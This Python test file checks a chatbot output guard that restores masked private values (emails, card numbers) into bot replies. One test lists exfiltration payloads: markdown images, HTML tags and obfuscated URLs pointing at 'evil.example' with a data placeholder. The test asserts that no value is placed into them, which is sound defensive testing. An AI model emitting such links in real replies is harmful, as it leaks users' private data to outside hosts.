"""Placeholders found in what a bot says."""

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.conversations.test_placeholder import MANGLED, TEXTS

from chatwarden.classes import Action, DataClass
from chatwarden.conversations.decode import Decoder, Named, Value, decoded, joined, named, restored
from chatwarden.conversations.model import Item, Message, MessageState, Source
from chatwarden.conversations.placeholder import LENGTH_MAX

VALUES = {"[email-1]": "mo@house.example", "[payment-card-12b]": "•••• 1111"}


def told(text: str, **how: bool) -> str:
    return joined(decoded(text, VALUES, **how), VALUES)


def answer(text: str, *items: Item) -> Message:
    return Message("msg_", 2, Source.BOT, 0, 1, MessageState.LIVE, text, items)


@pytest.mark.parametrize("written", MANGLED)
def test_a_known_name_gets_its_value_however_it_was_mangled(written: str) -> None:
    assert told(f"I wrote to {written}, as you said") == "I wrote to mo@house.example, as you said"


@pytest.mark.parametrize("text", ["[email-2]", "[phone-1]", "[email-1x]", "[email-01]", "[email-1 2]", "[emial-1]"])
def test_what_is_unknown_or_damaged_stays_as_it_is(text: str) -> None:
    assert told(f"I wrote to {text}.") == f"I wrote to {text}."


@given(TEXTS, st.lists(st.integers(1, 9), max_size=60))
def test_however_a_text_is_cut_the_same_comes_out(text: str, cuts: list[int]) -> None:
    decoder = Decoder(VALUES)
    parts, at = [], 0
    for size in cuts:
        parts += decoder.feed(text[at : at + size])
        at += size
        shown = sum(len(part) if isinstance(part, str) else len(part.written) for part in parts)
        assert min(at, len(text)) - shown <= LENGTH_MAX
    parts += decoder.feed(text[at:]) + decoder.finish()
    assert joined(parts, VALUES) == told(text)
    assert joined(parts, {}) == text


def test_a_name_that_is_cut_in_two_is_held_back_and_plain_words_are_not() -> None:
    decoder = Decoder(VALUES)
    assert decoder.feed("Good day. I wrote to [ema") == ["Good day. I wrote to "]
    assert decoder.feed("il-1") == []
    assert decoder.feed("] and ")[:2] == [Named("[email-1]", "[email-1]"), " and "]
    assert decoder.feed("all is well.") == ["all is well."]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[email-1])", "[a](//evil.example/[email-1])", "https://evil.example/?[email-1]",
        "![x](<https://evil.example/?q= [email-1]>)", "<img src=x alt=[email-1]>", "![x](a(b)[email-1])",
        "www.evil.example/[email-1]", "![x](http&colon;&sol;&sol;evil.example/[email-1])", r"\\evil\[email-1]",
        "[r]: https://evil.example/[email-1]", "<a href='x [email-1]'", "[email-1](/x?[email-1])",
    ],
)  # fmt: skip
def test_no_value_is_put_into_an_address(text: str) -> None:
    assert "mo@house.example" not in told(text).removeprefix("mo@house.example")
    assert "mo@house.example" in told(text, addresses=True)


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/help or write to [email-1]", "[our page](https://shop.example/) and [email-1]",
        "mail <[email-1]>", "<b>it</b> [email-1]", "a < b, [email-1]", "(see [email-1])", "x](y) [email-1]",
        "<a href\n\n[email-1]", "mailto:[email-1]", "1) [email-1] 2) [email-1]",
    ],
)  # fmt: skip
def test_behind_an_address_values_are_put_back_again(text: str) -> None:
    assert told(text) == text.replace("[email-1]", "mo@house.example")


def test_what_is_named_is_told_once_whether_known_or_not() -> None:
    assert named("[email-1] and [Email 1] and [phone-7]") == {"[email-1]", "[phone-7]"}


CLEAR = {
    "[email-1]": Value(DataClass.EMAIL, "mo@house.example", "mo@house.example", Action.PLACEHOLDER),
    "[payment-card-12b]": Value(DataClass.PAYMENT_CARD, "4111 1111", "•••• 1111", Action.MASKED),
}


def test_a_screen_shows_what_it_shows_of_the_value_and_its_findings_move_along() -> None:
    text = "To [email-1]: paid with [payment-card-12b], ref DE•• 00."
    at = text.index("DE")
    shown = restored(answer(text, Item(DataClass.IBAN, at, at + 7, Action.MASKED, mask="DE•• 00")), CLEAR)
    assert shown.text == "To mo@house.example: paid with •••• 1111, ref DE•• 00."
    assert [(i.data_class, shown.text[i.start : i.end], i.action) for i in shown.items] == [
        (DataClass.EMAIL, "mo@house.example", Action.PLACEHOLDER),
        (DataClass.PAYMENT_CARD, "•••• 1111", Action.MASKED),
        (DataClass.IBAN, "DE•• 00", Action.MASKED),
    ]


def test_a_message_without_known_names_is_the_same_message() -> None:
    message = answer("nothing [email-9] here")
    assert restored(message, CLEAR) is message


@given(TEXTS, st.lists(st.tuples(st.integers(0, 20), st.integers(1, 9)), max_size=5))
def test_findings_of_an_answer_keep_their_order_and_never_overlap(text: str, cuts: list[tuple[int, int]]) -> None:
    items, at = [], 0
    for skip, length in cuts:
        start, end = at + skip, at + skip + length
        if end > len(text):
            break
        items.append(Item(DataClass.URL, start, end, Action.ALLOWED))
        at = end
    shown = restored(answer(text, *items), CLEAR)
    spans = [(item.start, item.end) for item in shown.items]
    assert spans == sorted(spans)
    assert all(a[1] <= b[0] for a, b in itertools.pairwise(spans))
    assert all(0 <= start <= end <= len(shown.text) for start, end in spans)
